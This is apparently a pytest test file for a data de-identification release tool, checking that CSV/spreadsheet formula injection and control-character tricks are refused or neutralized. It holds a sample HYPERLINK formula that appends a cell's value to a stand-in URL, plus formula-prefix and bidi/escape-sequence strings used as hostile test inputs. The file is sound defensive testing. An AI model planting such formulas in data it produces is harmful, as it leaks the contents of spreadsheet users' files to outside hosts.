"""Text of a delivery or a policy that another program would run: it is refused, or neutralized where the policy says so."""

import csv
import random
import re

import pyarrow.parquet as pq
import pytest

from deid_assets.errors import PUBLISHED, REFUSED, PolicyError
from deid_assets_tests.scenarios.policies import SMALL, changed, write_policy
from deid_assets_tests.scenarios.test_flat_release import FLAT, people, released_rows, run_flat, write_people

NUMBER = re.compile(r"-\d+(\.\d+)?")
"""Noisy counts and shares can be negative; no program reads a formula in them."""

FORMULA = '=HYPERLINK("http://x/"&A1,"tea")'


def rows_with(*texts: str) -> list[list[str]]:
    """Rows of the flat table; some people like these texts."""
    generator = random.Random(3)
    rows = people()
    for row in rows:
        row[3] = generator.choice([*texts, "tea", "-5", "'=1", ""])
    return rows


@pytest.mark.matrix
def test_formulas_in_attributes_are_refused(fresh, tmp_path):
    summary = run_flat(fresh, write_people(tmp_path / "in", rows_with(FORMULA)))
    reasons = " ".join(summary.reasons)
    assert summary.exit_code == REFUSED and summary.release is None
    assert "data/Records: column Likes, about" in reasons and "takes for a formula" in reasons
    assert "HYPERLINK" not in reasons
    assert not list(fresh.home.releases.glob("*/0*"))


@pytest.mark.matrix
def test_formulas_in_attributes_are_neutralized_if_the_policy_says_so(fresh, tmp_path):
    values = changed(FLAT, formulas="neutralize", reviewed_attributes={"Likes": "the address is made up"})
    summary = run_flat(fresh, write_people(tmp_path / "in", rows_with(FORMULA)), values)
    assert summary.exit_code == PUBLISHED, summary
    rows = released_rows(fresh.home.root)
    # One more apostrophe where there was one: two texts stay two. A number stays a number.
    assert {row["Likes"] for row in rows} == {f"'{FORMULA}", "tea", "-5", "''=1", ""}
    stored = pq.read_table(fresh.home.releases / "flat_table" / "0001" / "data" / "Records.parquet")
    assert [cell or "" for cell in stored["Likes"].to_pylist()] == [row["Likes"] for row in rows]


@pytest.mark.parametrize("name", ["=cmd", "+a", "-a", "@a", "a;=b", "a\tb", "a\u202eb", "\uff1da"])
@pytest.mark.parametrize("base", [FLAT, SMALL], ids=["flat", "longitudinal"])
def test_a_column_has_no_name_that_is_a_formula(tmp_path, base, name):
    if base is FLAT:
        policy = changed(FLAT, attributes=[{"column": "likes", "release_as": name}])
    else:
        members = [dict(qi) for qi in SMALL["quasi_identifiers"]["members"]]
        members[1]["release_as"] = name
        policy = changed(SMALL, quasi_identifiers={**SMALL["quasi_identifiers"], "members": members})
    with pytest.raises(PolicyError, match="column name consists of letters, digits and underscores"):
        write_policy(tmp_path, policy)


@pytest.mark.parametrize("label", ["=1+1", "@x", "-", "a\tb", "a\u202eb", "a;=1"])
def test_a_label_that_no_release_may_hold_is_said_when_the_policy_is_loaded(tmp_path, label):
    town = {**FLAT["hierarchies"]["town"], "values": {f"town {n}": [f"district {n // 4}", label] for n in range(12)}}
    policy = changed(FLAT, hierarchies={**FLAT["hierarchies"], "town": town})
    with pytest.raises(PolicyError, match="level 'any' has 1 label that no release may contain"):
        write_policy(tmp_path, policy)


@pytest.mark.parametrize("text", ["a\u202eb", "a\x1b[2Jb", "a\x00b", "a\u2067b", "a\x9bb"])
@pytest.mark.parametrize("field", ["title", "description"])
def test_texts_of_a_policy_show_all_that_they_hold(tmp_path, field, text):
    with pytest.raises(PolicyError, match="must not contain control characters"):
        write_policy(tmp_path, changed(FLAT, **{field: text}))


def test_neutralizing_nothing_is_an_error(tmp_path):
    with pytest.raises(PolicyError, match="neutralize changes attributes, but there are none"):
        write_policy(tmp_path, changed(FLAT, attributes=[], formulas="neutralize"))


@pytest.mark.matrix
def test_no_text_of_a_longitudinal_release_begins_with_a_sign(published):
    for path in sorted((published.release / "data").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as file:
            cells = {cell for row in csv.reader(file) for cell in row}
        assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and not NUMBER.fullmatch(cell)]
